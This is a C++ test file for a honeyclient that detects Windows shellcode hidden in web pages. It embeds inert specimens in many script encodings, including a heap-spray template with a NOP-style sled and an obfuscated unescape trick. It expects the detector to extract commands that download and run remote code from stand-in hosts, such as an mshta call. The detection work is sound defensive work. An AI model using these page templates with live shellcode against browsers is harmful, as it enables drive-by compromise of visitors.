// Pages that carry machine code for Windows in every form that scripts keep it in, and pages full of texts
// that are none. The code is that of inert specimens (shellcode/specimens).
#include <algorithm>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <random>

#include <fmt/format.h>

#include "honeyclient/low/visit_test.h"

namespace shikake::honeyclient::low {
namespace {

// As the page's server would fill in: an address of the test's own server behind the specimen's name.
std::string specimen(const std::string& name) {
  std::ifstream file(std::filesystem::path(SHIKAKE_SHELLCODE_SPECIMENS) / (name + ".bin"), std::ios::binary);
  return {std::istreambuf_iterator<char>(file), {}};
}

#define SHIKAKE_NEED_SPECIMENS() \
  if (specimen("download").empty()) GTEST_SKIP() << "the assembler i686-linux-gnu-as is not installed here"

unsigned byte(char c) {
  return static_cast<uint8_t>(c);
}

std::string percent_u(std::string code) {
  if (code.size() % 2) code += '\0';
  std::string out;
  for (size_t i = 0; i < code.size(); i += 2)
    out += fmt::format("%u{:02x}{:02x}", byte(code[i + 1]), byte(code[i]));
  return out;
}
std::string escaped_units(std::string code) {
  if (code.size() % 2) code += '\0';
  std::string out;
  for (size_t i = 0; i < code.size(); i += 2)
    out += fmt::format("\\u{:02x}{:02x}", byte(code[i + 1]), byte(code[i]));
  return out;
}
std::string escaped_bytes(const std::string& code) {
  std::string out;
  for (char c : code) out += fmt::format("\\x{:02x}", byte(c));
  return out;
}
std::string numbers(const std::string& code) {
  std::string out;
  for (char c : code) out += fmt::format("{}{}", out.empty() ? "" : ",", byte(c));
  return out;
}
std::string words(std::string code) {
  while (code.size() % 4) code += '\0';
  std::string out;
  for (size_t i = 0; i < code.size(); i += 4)
    out += fmt::format("{}0x{:02x}{:02x}{:02x}{:02x}", out.empty() ? "" : ",", byte(code[i + 3]),
                       byte(code[i + 2]), byte(code[i + 1]), byte(code[i]));
  return out;
}
std::string chr_calls(std::string code) {
  if (code.size() % 2) code += '\0';
  std::string out;
  for (size_t i = 0; i < code.size(); i += 2)
    out += fmt::format("s = s & ChrW(&H{:02X}{:02X})\n", byte(code[i + 1]), byte(code[i]));
  return out;
}

struct FormRow {
  const char* name;
  std::string (*encode)(std::string);
  const char* page;  // {code}: the encoded specimen
  const char* how;   // as the record names it
};
std::string as_escaped_bytes(std::string code) {
  return escaped_bytes(code);
}
std::string as_numbers(std::string code) {
  return numbers(code);
}
const FormRow forms[] = {
    {"unescape", percent_u, "<script>var s = unescape('{code}');</script>", "unescape"},
    {"unescape_in_a_function", percent_u, "<script>(function(){ var s = unescape('{code}'); })()</script>",
     "unescape"},
    {"literal_in_a_function", escaped_units,
     "<script>(function(){ var s = '{code}'; return s.length })()</script>", "literal"},
    {"list_in_a_function", as_numbers, "<script>(function(){ var s = [{code}]; return s.length })()</script>",
     "literal"},
    {"unicode_text", escaped_units, "<script>var s = '{code}';</script>", "text"},
    {"byte_text", as_escaped_bytes, "<script>var a = {inner: {s: '{code}'}};</script>", "text"},
    {"byte_array", as_numbers, "<script>var a = [{code}];</script>", "array"},
    {"word_array", words, "<script>var a = [{code}];</script>", "array"},
    {"from_char_code", as_numbers, "<script>var s = String.fromCharCode({code});</script>", "text"},
    {"vbscript_unescape", percent_u, "<script language=vbscript>s = unescape(\"{code}\")</script>",
     "unescape"},
    {"vbscript_units", chr_calls, "<script language=vbscript>\ns = \"\"\n{code}</script>", "text"},
    {"spray", percent_u,
     "<script>var code = '{code}'; function spray() { var shell = unescape(code); var sled = "
     "unescape('%u0c0c%u0c0c');"
     "while (sled.length < 0x10000) sled += sled; memory = []; for (var i = 0; i < 100; ++i) memory[i] = "
     "sled + shell; }"
     "spray(); code = '';</script>",
     "unescape"},
};

std::string page_of(const FormRow& row, const std::string& code) {
  std::string page = row.page;
  page.replace(page.find("{code}"), 6, row.encode(code));
  return page;
}

class CodeForms : public ::testing::TestWithParam<FormRow> {};
INSTANTIATE_TEST_SUITE_P(All, CodeForms, ::testing::ValuesIn(forms),
                         [](const auto& row) { return std::string(row.param.name); });

TEST_P(CodeForms, AreFoundRunAndConvicted) {
  SHIKAKE_NEED_SPECIMENS();
  KeptBlobs blobs;
  VisitOptions options = local_visit("http://landing.example/");
  options.offline = true;
  options.persona = "ie8-winxp";
  options.content = page_of(GetParam(), specimen("download"));
  const intel::VisitRecord visit = visit_or_fail(options, blobs);
  ASSERT_EQ(visit.shellcode.size(), 1u);
  const intel::VisitShellcode& code = visit.shellcode[0];
  EXPECT_EQ(code.how, GetParam().how);
  EXPECT_EQ(code.urls, std::vector<std::string>{"http://files.example/specimen.exe"});
  EXPECT_EQ(code.commands, std::vector<std::string>{"C:\\specimen.exe"});
  EXPECT_EQ(code.outcome, "exited");
  EXPECT_TRUE(blobs.kept.contains(code.sha256.hex()));
  EXPECT_EQ(visit.verdict, intel::VisitVerdict::malicious);
  EXPECT_EQ(visit.nodes[0].role, intel::Role::exploit);
  ASSERT_EQ(visit.nodes.size(), 2u);
  EXPECT_EQ(visit.nodes[1].url, "http://files.example/specimen.exe");
  EXPECT_EQ(visit.nodes[1].role, intel::Role::distribution);
  EXPECT_EQ(visit.nodes[1].why_not, "offline");
  EXPECT_EQ(visit.limits_hit, std::vector<std::string>());
  ASSERT_EQ(visit.edges.size(), 1u);
  EXPECT_EQ(visit.edges[0].mechanism, intel::Mechanism::download);
  // Where a place is known, the edge has it.
  EXPECT_EQ(visit.edges[0].script.has_value(), std::string(GetParam().how) == "unescape");
}

TEST(CodeVisit, WhatForceAloneFoundIsMarked) {
  SHIKAKE_NEED_SPECIMENS();
  VisitOptions options = local_visit("http://landing.example/");
  options.offline = true;
  options.forced = true;
  options.persona = "ie8-winxp";
  // No literal holds it: those are looked through whether they run or not.
  std::string hidden = percent_u(specimen("download"));
  std::ranges::replace(hidden, '%', '!');
  options.content =
      "<script>if (screen.width == 1) { var s = unescape('" + hidden + "'.replace(/!/g, '%')); }</script>";
  const intel::VisitRecord visit = visit_or_fail(options);
  ASSERT_EQ(visit.shellcode.size(), 1u);
  EXPECT_TRUE(visit.shellcode[0].forced);
  EXPECT_EQ(visit.verdict, intel::VisitVerdict::suspicious);
  ASSERT_EQ(visit.edges.size(), 1u);
  EXPECT_TRUE(visit.edges[0].forced);
  for (const intel::VisitNode& node : visit.nodes) EXPECT_FALSE(node.role) << node.url;
}

TEST(CodeVisit, TheEdgeKnowsTheEvalsAroundIt) {
  SHIKAKE_NEED_SPECIMENS();
  VisitOptions options = local_visit("http://landing.example/");
  options.offline = true;
  options.content = "<p>\n<script>\nvar packed = 'var s = unescape(\"" + percent_u(specimen("command")) +
                    "\");';\n  eval(packed);</script>";
  const intel::VisitRecord visit = visit_or_fail(options);
  ASSERT_EQ(visit.shellcode.size(), 1u);
  EXPECT_EQ(visit.shellcode[0].commands, std::vector<std::string>{"mshta http://files.example/specimen.hta"});
  ASSERT_TRUE(visit.shellcode[0].script);
  ASSERT_EQ(visit.shellcode[0].script->ancestry.size(), 1u);
  EXPECT_EQ(visit.shellcode[0].script->ancestry[0].line, 4u);
}

TEST(CodeVisit, WhatItDownloadsIsFetched) {
  SHIKAKE_NEED_SPECIMENS();
  // The specimen's address made one of the test's own server.
  const std::string program = "MZ" + std::string(58, '\0') + std::string("\x40\0\0\0PE\0\0", 8) + "specimen";
  std::string code = specimen("download");
  Sites files({{"/s.exe", "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n\r\n" + program}});
  std::string address = files.url("/s.exe");
  const std::string room = "http://files.example/specimen.exe";
  ASSERT_LE(address.size(), room.size());
  code.replace(code.find(room), room.size(), address + std::string(room.size() - address.size(), '\0'));
  Sites sites({{"/", "<script>var s = unescape('" + percent_u(code) + "');</script>"}});
  const intel::VisitRecord visit = visit_or_fail(local_visit(sites.url()));
  ASSERT_EQ(visit.nodes.size(), 2u);
  EXPECT_TRUE(visit.nodes[1].fetched);
  EXPECT_EQ(visit.nodes[1].size, program.size());
  EXPECT_EQ(visit.nodes[1].role, intel::Role::distribution);
  EXPECT_EQ(visit.verdict, intel::VisitVerdict::malicious);
}

TEST(CodeVisit, UnescapeIsTheEnginesOwn) {
  VisitOptions options = local_visit("http://landing.example/");
  options.offline = true;
  options.content =
      "<script>alert([unescape('%41%u0042%zz%u12%'), unescape(), unescape(null), unescape.length, "
      "unescape.name,"
      "typeof unescape.prototype, String(unescape).replace(/\\s+/g, ' '),"
      "Object.getOwnPropertyDescriptor(window, 'unescape').enumerable].join('|'));</script>";
  const intel::VisitRecord visit = visit_or_fail(options);
  EXPECT_EQ(events_of(visit, "dialog"),
            std::vector<std::string>{"alert: AB%zz%u12%|undefined|null|1|unescape|undefined|"
                                     "function unescape() { [native code] }|false"});
}

// Texts of the kinds that pages are full of, in every place that is looked at.
TEST(CodeVisit, AThousandOtherTextsGiveNoFinding) {
  std::mt19937 random(11);
  constexpr std::string_view base64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string script = "var all = [];\n";
  for (int i = 0; i < 1000; ++i) {
    std::string bytes(400, '\0'), letters;
    for (char& c : bytes) c = static_cast<char>(random());
    for (int k = 0; k < 400; ++k) letters += base64[random() % base64.size()];
    switch (i % 5) {
      case 0:
        script += "var v" + std::to_string(i) + " = unescape('" + percent_u(bytes) + "');\n";
        break;
      case 1:
        script += "all.push('" + letters + "'); var w" + std::to_string(i) + " = atob('" + letters + "');\n";
        break;
      case 2:
        script += "var a" + std::to_string(i) + " = [" + numbers(bytes) + "];\n";
        break;
      case 3:
        script += "var x" + std::to_string(i) + " = '\\x89PNG\\r\\n" + escaped_bytes(bytes) + "';\n";
        break;
      default:
        script += "var t" + std::to_string(i) + " = new Uint8Array([" + numbers(bytes) + "]);\n";
    }
  }
  VisitOptions options = local_visit("http://landing.example/");
  options.offline = true;
  options.content = "<script>" + script + "</script>";
  const intel::VisitRecord visit = visit_or_fail(options);
  EXPECT_TRUE(visit.shellcode.empty());
  EXPECT_EQ(events_of(visit, "shellcode"), std::vector<std::string>());
  EXPECT_EQ(events_of(visit, "error"), std::vector<std::string>());
  EXPECT_EQ(visit.verdict, intel::VisitVerdict::benign);
}

// Looking for code runs nothing of the page's, and what can't be looked at harms nobody.
TEST(CodeVisit, TheSurveyRunsNoScript) {
  VisitOptions options = local_visit("http://landing.example/");
  options.offline = true;
  options.content =
      "<script>var touched = 0; var trap = {get a() { alert('touched'); return 1; }};"
      "Object.defineProperty(window, 'getter', {enumerable: true, get() { alert('touched'); }});"
      "var proxy = new Proxy({}, {ownKeys() { alert('touched'); return []; }, getOwnPropertyDescriptor() { "
      "alert('touched'); }});"
      "var hole = new Array(100000); hole[5] = 'x'; Object.defineProperty(Array.prototype, '3', {get() { "
      "alert('touched'); }});"
      "var loop = {}; loop.loop = loop; var deep = []; for (var i = 0; i < 100000; ++i) deep = [deep];"
      "</script>";
  const intel::VisitRecord visit = visit_or_fail(options);
  EXPECT_EQ(events_of(visit, "dialog"), std::vector<std::string>());
  EXPECT_EQ(visit.limits_hit, std::vector<std::string>());
}

}  // namespace
}  // namespace shikake::honeyclient::low
